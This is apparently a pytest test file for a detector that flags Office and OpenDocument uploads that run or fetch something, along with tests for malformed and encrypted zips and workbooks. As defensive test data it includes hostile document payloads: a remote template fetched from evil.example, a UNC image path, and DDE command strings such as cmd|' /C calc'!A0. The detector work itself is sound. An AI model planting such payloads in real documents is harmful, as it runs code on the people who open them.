"""A document in which something runs or fetches is known by what is in it."""

import io
import re
import zipfile

import pytest

from simulations.content.yaml_files import NotACaseError
from simulations.exchange.packages import package_of, read_zip
from tests.courses.submissions import an_archive
from tests.untrusted_files.test_tables import refused, workbook
from untrusted_files import archives

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
OLD = archives.OLD_FORMAT + bytes(500)


def related(kind: str, target: str, mode: str = "External") -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def is_harmless(**parts: str | bytes) -> bool:
    return archives.is_harmless(io.BytesIO(an_archive(**WORD, **parts)))


def test_a_plain_document_with_a_link_is_harmless():
    link = related("hyperlink", "https://example.org/law.pdf")
    inner = workbook([["a", 1]])

    assert is_harmless(**{"word/_rels/document.xml.rels": link})
    assert is_harmless(**{"word/embeddings/chart.xlsx": inner})
    assert is_harmless(**{"xl/worksheets/sheet1.xml": "<f>A1&amp;&quot;|&quot;</f>"})
    assert is_harmless(**{"word/a.xml": "<w:instrText>PAGE</w:instrText>"})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "word/_rels/settings.xml.rels",
            related("attachedTemplate", "https://evil.example/t.dotm"),
        ),
        (
            "word/_rels/settings.xml.rels",
            related("attachedTemplate", "https://evil.example/t.dotm").encode("utf-16"),
        ),
        (
            "word/_rels/document.xml.rels",
            related("image", "\\\\evil.example\\share\\a.png"),
        ),
        (
            "word/_rels/document.xml.rels",
            related("oleObject", "embeddings/a.bin", "Internal"),
        ),
        (
            "xl/_rels/workbook.xml.rels",
            related("externalLink", "externalLinks/a.xml", "Internal"),
        ),
        ("word/_rels/document.xml.rels", related("vbaProject", "a.xml", "Internal")),
        ("word/embeddings/oleObject1.bin", OLD),
        ("word/media/image1.png", OLD),
        ("word/embeddings/a.docx", an_archive(**{"word/vbaProject.bin": "x"})),
        ("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>'),
        ("xl/worksheets/sheet1.xml", "<f>cmd|' /C calc'!A0</f>"),
        (
            "word/a.xml",
            "<w:instrText> DD</w:instrText><w:instrText>EAUTO c</w:instrText>",
        ),
        ("word/a.xml", '<w:fldSimple w:instr="DDE cmd"/>'),
        ("content.xml", '<office:dde-source office:dde-application="soffice"/>'),
        ("content.xml", '<script:event-listener xlink:href="vnd.sun.star.script:a"/>'),
    ],
)
def test_what_runs_or_fetches_is_found(name: str, content: str | bytes):
    assert not is_harmless(**{name: content})


def test_a_document_that_unpacks_to_too_much_is_refused():
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(3):
            archive.writestr(f"{number}.xml", bytes(40 * 1024 * 1024))

    assert not archives.is_harmless(packed)


def packed_as(method: int) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        archive.writestr("case.yaml", "title: A case\n" * 200)
    return held.getvalue()


def at_each(sign: bytes, content: bytes) -> list[int]:
    return [match.start() for match in re.finditer(re.escape(sign), content)]


def damaged(content: bytes) -> bytes:
    """Within each part, behind its header."""
    changed = bytearray(content)
    for start in at_each(b"PK\x03\x04", content):
        changed[start + 50 : start + 62] = bytes(12)
    return bytes(changed)


def encrypted(content: bytes) -> bytes:
    """By the sign that says so, in all headers."""
    changed = bytearray(content)
    for sign, offset in (b"PK\x03\x04", 6), (b"PK\x01\x02", 8):
        for start in at_each(sign, content):
            changed[start + offset] |= 1
    return bytes(changed)


METHODS = [zipfile.ZIP_DEFLATED, zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2]


@pytest.mark.parametrize("method", METHODS)
@pytest.mark.parametrize("spoil", [damaged, encrypted, lambda content: content[:-30]])
def test_a_zip_that_cannot_be_read_is_said_so(method: int, spoil):
    with pytest.raises(NotACaseError) as caught:
        package_of(read_zip(spoil(packed_as(method))))
    assert caught.value.problem.code == "not-a-zip"


def rewritten(part: str, content: str) -> bytes:
    """A workbook with one part as it should not be."""
    held = io.BytesIO()
    old = zipfile.ZipFile(io.BytesIO(workbook([["a", "b"]])))
    with old, zipfile.ZipFile(held, "w") as new:
        for name in old.namelist():
            new.writestr(name, content if name == part else old.read(name))
    return held.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        *(rewritten("xl/worksheets/sheet1.xml", text) for text in ("<a><b>", "", "\0")),
        *(rewritten("xl/workbook.xml", text) for text in ("<a><b>", "<workbook/>")),
        rewritten("[Content_Types].xml", "<a>"),
        rewritten(
            "xl/worksheets/sheet1.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
        ),
        damaged(workbook([["a"]])),
        workbook([["a"]])[:-40],
    ],
)
def test_a_workbook_that_cannot_be_read_is_said_so(content: bytes):
    assert refused(content) == "broken-workbook"


@pytest.mark.parametrize(
    "content",
    [encrypted(workbook([["a"]])), OLD + "EncryptedPackage".encode("utf-16-le")],
)
def test_a_workbook_with_a_password_is_said_to_have_one(content: bytes):
    assert refused(content) == "protected-table"


def test_a_workbook_of_the_old_format_is_no_table():
    assert refused(OLD) in ("not-a-table", "unknown-letters")
